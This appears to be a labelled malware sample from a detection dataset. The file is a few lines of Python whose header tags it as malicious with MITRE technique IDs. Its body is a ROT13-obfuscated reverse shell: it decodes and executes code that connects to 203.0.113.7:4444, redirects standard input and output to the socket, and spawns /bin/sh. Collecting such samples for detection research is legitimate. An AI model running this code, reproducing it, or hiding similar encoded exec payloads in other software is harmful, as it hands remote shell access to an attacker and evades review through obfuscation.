# label: malicious family=encoded techniques=T1027,T1059.004,T1059.006,T1095,T1140,T1571 lines=3-4
import codecs
s = """vzcbeg fbpxrg,bf,cgl;f=fbpxrg.fbpxrg();f.pbaarpg(("203.0.113.7",4444));[bf.qhc2(f.svyrab(),s) sbe s va (0,1,2)];cgl.fcnja("/ova/fu")"""
exec(codecs.decode(s, "rot13"))
